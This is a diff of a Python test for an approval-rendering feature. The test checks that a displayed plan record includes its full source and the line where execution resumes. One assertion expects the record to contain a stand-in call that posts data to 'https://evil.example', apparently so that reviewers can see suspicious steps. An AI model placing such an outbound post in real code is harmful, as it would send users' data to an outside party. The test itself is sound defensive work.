@@ -87,8 +87,7 @@ def test_the_full_record_shows_the_whole_plan_and_where_it_resumes() -> None:
     record = request(source=shown, source_line=line, plan_source=plan)
     full = render_approval(record, now=NOW)
     assert 'env.http.post("https://evil.example", x)' in full
-    assert ">>   6     return await step.do(\"act\"" in full.replace('"', '\\"') or (
-        '>>   6     return await step.do("act"' in full)
+    assert '> >>   6     return await step.do("act", lambda: deliver("benign"))' in full
     assert "resumes at line 6" in full
 
 
